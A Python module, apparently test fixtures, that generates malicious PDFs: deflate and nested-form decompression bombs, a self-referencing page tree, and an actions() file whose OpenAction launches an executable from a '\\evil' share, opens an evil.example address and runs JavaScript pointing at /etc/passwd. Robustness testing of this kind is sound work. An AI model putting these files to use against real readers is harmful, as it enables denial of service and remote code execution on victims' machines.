"""Small PDFs that cost a reader a great deal."""

from __future__ import annotations

import zlib

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def one_page(content: bytes, *, filters: int = 0) -> bytes:
    """A page of this content stream, deflated `filters` times."""
    for _ in range(filters):
        content = zlib.compress(content, 9)
    names = b"/Filter[" + b"/FlateDecode" * filters + b"]" if filters else b""
    return _file(*_catalog(b"/Font<</F 4 0 R>>"), _FONT, _stream(content, names))


def nested_forms(levels: int, fan: int) -> bytes:
    """`fan` ** `levels` drawings of the same word, in 2 kB."""
    objects = [*_catalog(b"/XObject<</X 6 0 R>>"), _FONT, _stream(b"/X Do")]
    for level in range(levels):
        last = level == levels - 1
        body = b"BT /F 9 Tf (boum) Tj ET" if last else b"/X Do " * fan
        resources = b"/Font<</F 4 0 R>>" if last else b"/XObject<</X %d 0 R>>" % (7 + level)
        objects.append(_stream(body, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<" + resources + b">>"))
    return _file(*objects)


def compressed_operators(operators: bytes, repeated: int) -> bytes:
    """Gigabytes of page content in some kilobytes."""
    return one_page(b"BT /F 9 Tf " + operators * repeated + b"ET", filters=1)


def page_tree_loop() -> bytes:
    """A page tree whose child is itself."""
    return _file(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>")


def actions() -> bytes:
    """Opens a file, an address and a program as soon as it is shown, if the reader lets it."""
    start = b"/OpenAction<</S/Launch/F(\\\\\\\\evil\\\\share\\\\a.exe)/Next<</S/URI/URI(http://evil.example/)>>>>"
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R"
        + start
        + b"/AA<</WC<</S/JavaScript/JS(app.launchURL\\('file:///etc/passwd'\\))>>>>>>"
    )
    return _file(catalog, *_catalog(b"/Font<</F 4 0 R>>")[1:], _FONT, _stream(b"BT /F 9 Tf (ouvre) Tj ET"))


def _catalog(resources: bytes) -> tuple[bytes, bytes, bytes]:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<" + resources + b">>/Contents 5 0 R>>"
    return b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<" + entries + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


def _file(*objects: bytes) -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return (
        bytes(out) + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(out))
    )
